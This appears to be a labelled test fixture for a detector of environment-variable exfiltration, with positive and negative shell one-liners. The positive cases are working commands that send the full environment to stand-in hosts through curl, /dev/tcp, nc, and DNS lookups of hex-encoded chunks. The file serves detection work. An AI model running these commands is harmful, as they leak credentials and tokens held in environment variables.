#@ pos env to curl
env | curl -s -d @- https://c.example/
#@ pos compgen and indirection to curl
for v in $(compgen -e); do echo "$v=${!v}"; done | curl -s -d @- https://c.example/
#@ pos export -p into /dev/tcp
export -p > /dev/tcp/10.0.0.1/9000
#@ pos printenv with nc
printenv | nc c.example 9000
#@ neg one variable to curl
curl -s "https://c.example/?u=$USER"
#@ neg env alone
env | sort
#@ neg curl alone
curl -s https://example.com/
#@ pos the environment sent out as DNS names
env | xxd -p -c 30 | while read -r c; do nslookup "$c.t.example.net"; done
